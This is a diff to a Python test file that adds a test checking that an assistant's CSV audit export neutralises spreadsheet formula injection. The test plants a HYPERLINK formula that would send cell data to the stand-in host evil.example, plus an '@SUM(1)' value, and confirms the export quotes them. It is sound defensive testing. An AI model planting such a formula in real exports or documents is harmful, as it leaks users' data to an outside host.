@@ -4,6 +4,7 @@ retention, a failing database, several writers, and PostgreSQL."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import logging
@@ -325,6 +326,28 @@ def test_audit_verify_on_the_command_line_exits_1_at_a_broken_link(tmp_path: Pat
 
 
 # --- export, costs, retention --------------------------------------------------------------------
+
+
+def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_a_visitor_typed(
+    tmp_path: Path,
+) -> None:
+    planted = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
+    log = AuditLog.open(tmp_path / "data" / "audit.sqlite3")
+    log.write(dataclasses.replace(record(1, "2026-09-01T08:00:00.000+00:00"), question=planted))
+    log.write(dataclasses.replace(record(2, "2026-09-01T09:00:00.000+00:00"), question="@SUM(1)"))
+    log.close()
+    env = {"ASSISTANT_DATA_DIR": str(tmp_path / "data")}
+    exported = run(["-m", "assistant", "audit", "export", "--format", "csv"], tmp_path, **env)
+    assert exported.returncode == 0, exported.stderr
+    table = list(csv.reader(io.StringIO(exported.stdout)))
+    cells = [cell for row in table[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    question = CSV_COLUMNS.index("question")
+    assert [row[question] for row in table[1:]] == [f"'{planted}", "'@SUM(1)"]
+    assert table[1][CSV_COLUMNS.index("history_turns")] == "0"
+    # The JSON lines stay the record, verbatim.
+    jsonl = run(["-m", "assistant", "audit", "export"], tmp_path, **env)
+    assert json.loads(jsonl.stdout.splitlines()[0])["question"] == planted
 
 
 def test_export_and_costs_on_the_command_line(tmp_path: Path) -> None:
